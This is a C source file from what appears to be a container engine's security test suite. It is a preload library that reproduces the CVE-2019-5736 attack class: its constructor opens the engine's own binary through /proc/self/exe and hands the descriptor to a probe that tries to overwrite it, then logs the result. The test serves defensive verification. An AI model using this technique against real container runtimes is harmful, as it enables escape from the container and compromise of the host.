/* The attacker of the CVE-2019-5736 class, for tests/security.rs: a shared library the
 * container's /etc/ld.so.preload names, so the container's dynamic loader runs it inside every
 * dynamically linked program started there. The only such program is the engine, made to run
 * in the container as the interpreter of a `#!/proc/self/exe` script (its libraries come from
 * the container, as runc's did in the original exploit).
 *
 * It opens the engine's own file through /proc/self/exe and hands the descriptor to
 * `/bin/probe attack-exe FD now|later` (probe.c), which tries to change the file; `later`
 * (ATTACK_LATER set) leaves that process behind in the container, where it waits for the test
 * to say that no engine process runs the file any more. Its outcomes, and "now opened PATH"
 * from here, go to /signal/result.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

__attribute__((constructor)) static void hijack(void) {
    FILE *report = fopen("/signal/result", "a");
    /* Not close-on-exec: the probe inherits it. */
    int exe = open("/proc/self/exe", O_RDONLY);
    char target[256] = "?";
    ssize_t len = readlink("/proc/self/exe", target, sizeof target - 1);
    if (len > 0)
        target[len] = 0;
    if (report) {
        fprintf(report, exe < 0 ? "now open-exe failed %s\n" : "now opened %s\n", target);
        fclose(report);
    }
    if (exe < 0)
        return;
    const char *later = getenv("ATTACK_LATER");
    pid_t child = fork();
    if (child == 0) {
        char fd[16];
        snprintf(fd, sizeof fd, "%d", exe);
        execl("/bin/probe", "probe", "attack-exe", fd, later ? "later" : "now", (char *)NULL);
        _exit(127);
    }
    close(exe);
    if (child > 0 && !later)
        waitpid(child, NULL, 0);
}
